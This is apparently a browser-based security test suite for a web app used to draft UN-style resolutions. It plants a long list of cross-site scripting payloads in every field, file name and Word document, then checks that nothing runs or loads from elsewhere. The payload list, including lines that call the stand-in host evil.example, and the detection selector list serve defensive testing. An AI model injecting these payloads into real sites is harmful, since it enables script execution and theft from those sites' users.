"""Scripts put in by every door, and every page looked at in a real browser under its policy (W01, W07).

One table is filled with the payloads by every text field, name and file that a call, form or Word
file carries; then each page is visited once by those who see it. Nothing may run, nothing may be
asked of another host, no element may stand that we did not make, and the browser may complain of
nothing.
"""

from __future__ import annotations

import itertools
import re
import urllib.parse
import uuid
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.conftest import ready
from tests.crash.client import Browser as Caller
from tests.crash.client import Refused
from tests.returning import Comment, WordFile, line, on, put_in, run, taken_out
from tests.servers import Serving

PENHOLDER = "Presidency (penholder)"
SECRETARIAT = "Secretariat"
MEXICO = "Delegate, Mexico"
CHILE = "Delegate, Chile"

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    "<script type=module>alert(1)</script>",
    "<script>import('//evil.example/x.js')</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/x.png>",
    '"><img src=x onerror=alert(1)>',
    "<img/src/onerror=alert(1)>",
    "<img src='x' onerror='alert&#40;1&#41;'>",
    '<img src="x" srcset="//evil.example/x 1x" loading=eager>',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<style>@import '//evil.example/x.css';*{display:none}</style>",
    '<p style="background:url(//evil.example/x)" data-inj>x</p>',
    "<form action=//evil.example/ data-inj><button>x</button></form>",
    "<button formaction=javascript:alert(1) data-inj>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<a href=javascript:alert(1) data-inj>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>' data-inj>x</a>",
    "<x-inj onclick=alert(1) id=draft>x</x-inj>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<div id=main name=cookie data-inj></div>",
    '" onmouseover="alert(1)" data-inj="',
    "' autofocus onfocus='alert(1)' data-inj='",
    "` onload=`alert(1)",
    "javascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}#{alert(1)}{% print 7*7 %}",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "\u202e<script>alert(1)</script>",
    "__proto__[onerror]=alert(1)",
]
ALL = " ".join(PAYLOADS)

MADE_BY_NOBODY = (
    "x-inj, [data-inj], [onerror], [onload], [onclick], [onfocus], [onmouseover], [ontoggle], "
    "[onbegin], [onstart], script:not([src]), script[src*=evil], iframe, frame, object, embed, base, "
    "meta[http-equiv], math, marquee, video, audio, style, form[action*=evil], [formaction*=script], "
    "[href*=evil], [src*=evil], [srcset], a[href^='javascript:' i], a[href^='data:' i], [srcdoc]"
)
"""What no page of ours has in it: found, it was put in."""


def some(limit: int) -> Iterator[str]:
    """Gives the payloads in as few strings as a field of so many characters takes."""
    held = ""
    for one in PAYLOADS:
        if len(held) + len(one) + 1 > limit:
            yield held
            held = ""
        held = f"{held} {one}".strip()
    yield held


class Filling:
    """One table, and everything that people write put into it."""

    def __init__(self, served: Serving) -> None:
        self.served = served
        self.people = {
            who: Caller(served.port).enter(served.links[who])
            for who in (PENHOLDER, SECRETARIAT, MEXICO, CHILE)
        }
        self.draft = self.people[PENHOLDER].first_draft()
        state = self.people[PENHOLDER].state(self.draft)
        self.paragraphs = [p["id"] for p in state["paragraphs"] if not p["deleted"]]
        self.ids = {one["name"]: one["id"] for one in state["delegations"]}
        self.filled = 0
        self.answer = ""

    def post(self, by: str, path: str, /, **body: Any) -> Any:
        """Makes a call on the draft, or by a whole path; it must be done."""
        whole = path if path.startswith("/") else f"/drafts/{self.draft}/{path}"
        answer = self.people[by].call("POST", whole, {"id": str(uuid.uuid4()), **body})
        self.filled += 1
        return answer

    def form(self, who: str | None, path: str, **fields: str) -> tuple[int, str]:
        """Sends a form of the pages."""
        caller = self.people[who] if who else Caller(self.served.port)
        status, headers, body = caller.request(
            "POST",
            path,
            urllib.parse.urlencode(fields).encode(),
            "application/x-www-form-urlencoded",
        )
        self.filled += 1
        return status, headers.get("location", "") or body.decode()

    def fill(self) -> None:
        """Puts payloads into everything."""
        self._text()
        self._negotiation()
        self._people()
        self._sponsors()
        self._record()

    def _text(self) -> None:
        everyone = {"kind": "everyone"}
        for size, words in enumerate(some(9_000)):
            at = self.paragraphs[size]
            made = self.post(PENHOLDER, "deeds", kind="insert", after=at, paragraph_kind="preambular", level=0, ops=[{"insert": words}, {"insert": {"note": [{"insert": words}]}}])  # fmt: skip
            assert made["seq"]
        self.post(PENHOLDER, "deeds", kind="delete", paragraph=self.paragraphs[4])
        self.post(PENHOLDER, "deeds", kind="undo", deed=self._deed())
        for who in (PENHOLDER, MEXICO):
            thread = self.post(
                who, "threads", paragraph=self.paragraphs[1], audience=everyone, body=ALL
            )["thread"]
            self.post(CHILE, f"/threads/{thread['id']}/comments", body=ALL)
        for number, name in enumerate(some(76)):
            self.post(PENHOLDER, "versions", name=f"{number} {name}", note=ALL[:1_900])
        for number, name in enumerate(itertools.islice(some(290), 3)):
            tied = self.paragraphs[2 + 2 * number : 4 + 2 * number]
            self.post(PENHOLDER, "packages", name=name, paragraphs=tied)
        self.post(PENHOLDER, "masthead", title=next(some(290)), committee="<b>First", agenda_item=PAYLOADS[0], agenda_title=next(some(290)))  # fmt: skip

    def _deed(self) -> str:
        deeds = self.people[PENHOLDER].call("GET", f"/drafts/{self.draft}/deeds")["deeds"]
        return str(deeds[0]["id"])

    def _negotiation(self) -> None:
        at = itertools.cycle(self.paragraphs[2:8])
        for who in (MEXICO, CHILE):
            begun = self.post(who, "proposals", kind="amend", paragraph=next(at), ops=[{"insert": ALL}])  # fmt: skip
            path = f"/proposals/{begun['proposal']['id']}"
            self.post(who, f"{path}/sentence", sentence=ALL)
            self.post(who, f"{path}/circulation", audience="everyone")
            self.post(PENHOLDER, f"{path}/response", outcome="will_consider", reason=ALL[:1_900], audience="everyone")  # fmt: skip
            taken = self.post(who, "positions", paragraph=next(at), stance="retain", remark=ALL, audience="everyone")  # fmt: skip
            self.post(PENHOLDER, f"/positions/{taken['position']['id']}/response", outcome="will_consider", reason=ALL[:1_900], audience="everyone")  # fmt: skip
        gone = self.post(CHILE, "proposals", kind="delete", paragraph=self.paragraphs[3])
        path = f"/proposals/{gone['proposal']['id']}"
        self.post(CHILE, f"{path}/circulation", audience="everyone")
        self.post(CHILE, f"{path}/withdrawal", reason=ALL[:1_900])
        self.post(PENHOLDER, "agreement", paragraph=self.paragraphs[2], state="open", note=ALL[:1_900])  # fmt: skip

    def _people(self) -> None:
        for number, name in enumerate(some(110)):
            invited = self.post(
                PENHOLDER,
                "invitations",
                role="delegate",
                delegation=self.ids["Chile"],
                name=name,
            )
            if number > 1:
                continue
            status, _ = self.form(
                None,
                "/invitations/accept",
                token=invited["link"].rsplit("/", 1)[1],
                name=name,
                email=f"p{uuid.uuid4().hex[:8]}@example.org",
                password="a lamp that turns slowly",
            )
            assert status == 303

    def _sponsors(self) -> None:
        states = self._states()
        australia = states["AUS"]
        for line_, words in zip(itertools.cycle(some(190)), ("said", "kept"), strict=False):
            self._maybe(PENHOLDER, "sponsorship", step=words, delegations=[australia], who=line_, where=line_, note=ALL[:1_900])  # fmt: skip
        note = ALL[:1_900]
        for words in some(190):
            self.post(
                PENHOLDER, "contacts", delegation=australia, who=words, channel=words, said=note
            )
            self.post(PENHOLDER, "actions", delegation=australia, what=words)
            self.post(
                PENHOLDER,
                "overrides",
                delegation=australia,
                vote="N",
                reason=note,
                source=words,
            )
            self.post(PENHOLDER, "call", mode="closed", group=words, listed=True)
        for words in some(580):
            words = words[:190]  # noqa: PLW2901 - the beginnings, each of other payloads
            asked = self.post(
                MEXICO, "instructions", subject="vote", asked_by=words, words=ALL, shown="pending"
            )
            path = f"/instructions/{asked['instruction']['id']}/steps"
            self.post(MEXICO, path, step="received", words=ALL)
        for who, more in ((PENHOLDER, {"delegation": australia}), (MEXICO, {})):
            self.post(who, "conditions", kind="as_circulated", note=note, **more)
        letter = {"delegations": [states["ISL"]], "subject": PAYLOADS[0], "body": ALL}
        asking = {"question": "sponsor", "body": f"{ALL} {{link}}"}
        self.post(PENHOLDER, "letters/preview", **{**letter, **asking})
        self.post(PENHOLDER, "letters", **letter)

    def _states(self) -> dict[str, str]:
        rows = self.people[PENHOLDER].call("GET", f"/drafts/{self.draft}/board")["rows"]
        return {row["key"]: row["delegation"] for row in rows}

    def _maybe(self, by: str, path: str, /, **body: Any) -> None:
        """Makes a call that may be refused for what the sample already says."""
        try:
            self.post(by, path, **body)
        except Refused as refused:
            if refused.status not in (400, 409):
                raise

    def _record(self) -> None:
        for line_ in some(290):
            self._maybe(PENHOLDER, "record", symbol=line_, tabled_as=line_, on="2020-12-07", votes=f"iso3,vote,date,resolution\nMEX,Y,2020-12-07,{PAYLOADS[0]}\n")  # fmt: skip
            self._maybe(PENHOLDER, "record", sponsors=ALL)


@pytest.fixture(scope="module")
def filling(served: Serving) -> Filling:
    made = Filling(served)
    made.fill()
    return made


class Watch:
    """A person's pages, and everything that may not happen on them."""

    def __init__(self, browser: Browser, filling: Filling, who: str | None) -> None:
        self.problems: list[str] = []
        self.base = filling.served.base
        self._who = who or "nobody"
        context = browser.new_context(accept_downloads=True)
        context.set_default_timeout(20_000)
        if who is not None:
            for pair in filling.people[who].cookie.split("; "):
                name, _, value = pair.partition("=")
                context.add_cookies([{"name": name, "value": value, "url": self.base}])
        context.add_init_script(
            "addEventListener('securitypolicyviolation', (e) => console.error("
            "`policy: ${e.effectiveDirective} ${e.blockedURI} ${e.sourceFile} ${e.sample}`));"
        )
        self.page: Page = context.new_page()
        self.page.on("dialog", self._dialog)
        self.page.on("pageerror", lambda error: self._note(f"error {error}"))
        self.page.on("console", self._console)
        self.page.on("request", self._request)
        self.context = context
        self.seen = 0

    def _note(self, words: str) -> None:
        self.problems.append(f"{self._who} at {self.page.url}: {words}"[:600])

    def _dialog(self, dialog: Any) -> None:
        self._note(f"dialog {dialog.message}")
        dialog.dismiss()

    def _console(self, said: Any) -> None:
        if said.type == "error" and not re.search(r"status of (40[034]|410|422)", said.text):
            self._note(f"console {said.text}")

    def _request(self, request: Any) -> None:
        if not request.url.startswith((self.base, "data:", "blob:", "file:", self.base.replace("http", "ws"))):  # fmt: skip
            self._note(f"asks {request.url}")

    def visit(self, path: str, *, wait: str | None = None) -> Page:
        """Goes to a page and looks at it."""
        self.page.goto(f"{self.base}{path}")
        if wait:
            self.page.wait_for_selector(wait)
        self.look()
        return self.page

    def look(self) -> None:
        """Looks at what stands on the page, with everything that folds opened."""
        found = self.page.evaluate(
            """(wanted) => {
              for (const one of document.querySelectorAll("details")) one.open = true;
              return [...document.querySelectorAll(wanted)].map((one) => one.outerHTML.slice(0, 200));
            }""",
            MADE_BY_NOBODY,
        )
        for one in found:
            self._note(f"element {one}")
        self.seen += 1

    def end(self) -> None:
        """Closes, and fails if anything happened."""
        self.context.close()
        assert not self.problems, "\n".join(self.problems[:12])


@pytest.fixture
def watch(browser: Browser, filling: Filling) -> Iterator[Any]:
    made: list[Watch] = []

    def make(who: str | None) -> Watch:
        made.append(Watch(browser, filling, who))
        return made[-1]

    yield make
    for one in made:
        one.end()


def test_all_fields_were_filled(filling: Filling) -> None:
    assert filling.filled > 100


PAGES = ["", "/people", "/board", "/record", "/print", "/compilation", "/compilation?show=all", "/returned", "/versions/1", "/versions/3", "/compare?from=0", "/vote-sheet", "/reading-list", "/verify"]  # fmt: skip


@pytest.mark.parametrize(
    ("who", "pages"),
    [
        (PENHOLDER, PAGES),
        (MEXICO, ["", "/mine", "/verify", "/compilation?show=mine", "/returned"]),
        (CHILE, ["", "/mine", "/compare?from=0&to=2"]),
        (SECRETARIAT, ["", "/board", "/people"]),
    ],
    ids=["penholder", "Mexico", "Chile", "secretariat"],
)
def test_nothing_that_was_written_runs_on_any_page(
    watch: Any, filling: Filling, who: str, pages: list[str]
) -> None:
    seen = watch(who)
    for path in pages:
        page = seen.visit(f"/drafts/{filling.draft}{path}")
        page.wait_for_load_state("networkidle") if path in ("/board", "/record", "/mine") else None
        if path == "":
            ready(page)
        seen.look()
    for path in ("/drafts", "/account", "/privacy"):
        seen.visit(path)


def test_nothing_that_is_told_runs_while_a_page_is_open(watch: Any, filling: Filling) -> None:
    """Toasts, threads, slips and names that come by the live connection."""
    seen = watch(PENHOLDER)
    page = seen.visit(f"/drafts/{filling.draft}")
    ready(page)
    for words in some(3_000):
        told = f"just now {uuid.uuid4().hex[:6]} "
        filling.post(CHILE, "threads", paragraph=filling.paragraphs[1], audience={"kind": "everyone"}, body=told + words)  # fmt: skip
        expect(page.locator(".thread", has_text=told.strip()).first).to_be_attached()
        filling.post(SECRETARIAT, "threads", paragraph=filling.paragraphs[2], audience={"kind": "everyone"}, body=words)  # fmt: skip
    begun = filling.post(CHILE, "proposals", kind="insert", paragraph=filling.paragraphs[1], paragraph_kind="preambular", ops=[{"insert": ALL}])  # fmt: skip
    filling.post(CHILE, f"/proposals/{begun['proposal']['id']}/circulation", audience="everyone")
    other = filling.people[PENHOLDER]
    made = other.call("POST", f"/drafts/{filling.draft}/versions", {"id": str(uuid.uuid4()), "name": f"told {PAYLOADS[0]}", "note": ""})  # fmt: skip
    assert made["version"]
    expect(page.locator("body")).to_contain_text(f"told {PAYLOADS[0]}")
    seen.look()


def word_file() -> bytes:
    """Gives a Word file with payloads for words, authors, comments, notes and properties."""
    lines = [line("The General Assembly,")]
    for number, words in enumerate(some(2_000)):
        author = PAYLOADS[number * 3 % len(PAYLOADS)]
        lines.append(line(run(words), put_in(author, words), taken_out(author, words)))
    lines.append(line("1. ", on(0, "Decides to return to the matter.")))
    comments = [Comment(PAYLOADS[0], ALL)]
    return WordFile(lines, comments, properties={"title": ALL}, notes=[line(run(ALL))]).bytes()


def test_nothing_in_a_file_or_its_name_runs(watch: Any, filling: Filling) -> None:
    seen = watch(PENHOLDER)
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    name = f"{PAYLOADS[14]}{PAYLOADS[20]}.docx"
    sent = {"name": name, "mimeType": kind, "buffer": word_file()}
    page = seen.visit(f"/drafts/{filling.draft}/returned")
    page.locator("input[type=file]").set_input_files(sent)
    page.get_by_role("button", name=re.compile("^(Read|Look|Open|Show)")).first.click()
    expect(page.locator("main")).to_contain_text(PAYLOADS[0])
    seen.look()
    page = seen.visit("/import")
    page.locator("input[name=title]").fill(next(some(200)))
    page.locator("input[type=file]").set_input_files(sent)
    page.locator("form[enctype] button").last.click()
    expect(page.locator("main")).to_contain_text("<script>")
    seen.look()
    drafts = filling.people[PENHOLDER].call("GET", "/drafts")["drafts"]
    made = next(one["id"] for one in drafts if one["id"] != filling.draft)
    page = seen.visit(f"/drafts/{made}")
    ready(page)
    seen.look()


def test_nothing_runs_on_the_pages_that_anybody_opens(watch: Any, filling: Filling) -> None:
    seen = watch(None)
    for words in some(1_200):
        at = urllib.parse.quote(words, safe="")
        seen.visit(f"/sign-in?next={at}#{at}")
        seen.visit(f"/sign-in?next=/drafts/{at}")
        at = urllib.parse.quote(words.replace("/", "\u2044"), safe="")
        for path in (f"/enter/{at}", f"/invitations/{at}", f"/answers/{at}", f"/nowhere/{at}", f"/compare?{at}"):  # fmt: skip
            seen.visit(path)
    files = [
        {"name": f"{one}.txt".replace("/", "\u2044"), "mimeType": "text/plain", "buffer": words.encode()}
        for one, words in zip(PAYLOADS[14:16], (f"1. {ALL}", f"1. {ALL[::-1]}"), strict=True)
    ]  # fmt: skip
    page = seen.visit("/compare")
    for field, file in zip(page.locator("input[type=file]").all(), files, strict=True):
        field.set_input_files(file)
    page.get_by_role("button", name="Compare").click()
    expect(page.locator("main")).to_contain_text(PAYLOADS[0])
    seen.look()


def test_nothing_runs_in_the_files_that_are_handed_out(
    watch: Any, filling: Filling, tmp_path: Any
) -> None:
    """A page that was saved is opened without our policy: it has to hold nothing that runs."""
    seen = watch(PENHOLDER)
    for number, path in enumerate(("export.html", "export.html?since=0", "compilation.html")):  # fmt: skip
        status, headers, content = filling.people[PENHOLDER].request(
            "GET", f"/drafts/{filling.draft}/{path}"
        )
        assert status == 200, (path, content[:300])
        assert headers["content-disposition"].startswith("attachment")
        assert b"<script" not in content.lower()
        file = tmp_path / f"{number}.html"
        file.write_bytes(content)
        seen.page.goto(file.as_uri())
        found = seen.page.evaluate(
            "(wanted) => [...document.querySelectorAll(wanted)].map((one) => one.outerHTML.slice(0, 200))",
            MADE_BY_NOBODY.replace(" style,", "").replace("meta[http-equiv], ", ""),
        )
        assert not found


def test_what_happens_is_seen(watch: Any, filling: Filling) -> None:
    """The looking itself, held to things that we do to a page."""
    seen = watch(None)
    page = seen.visit("/sign-in")
    page.evaluate(
        """() => {
          document.body.append(document.createElement("x-inj"));
          document.body.append(Object.assign(document.createElement("img"), {src: "http://evil.example/x.png"}));
          document.body.insertAdjacentText("beforeend", "x");
        }"""
    )
    with pytest.raises(Exception, match="TrustedHTML"):
        page.evaluate("document.body.insertAdjacentHTML('beforeend', '<b>x</b>')")
    seen.look()
    page.evaluate("alert('seen')")
    noted = " ".join(seen.problems)
    for sign in ("x-inj", "element <img", "policy: img-src", "dialog seen"):
        assert sign in noted, (sign, seen.problems)
    seen.problems.clear()
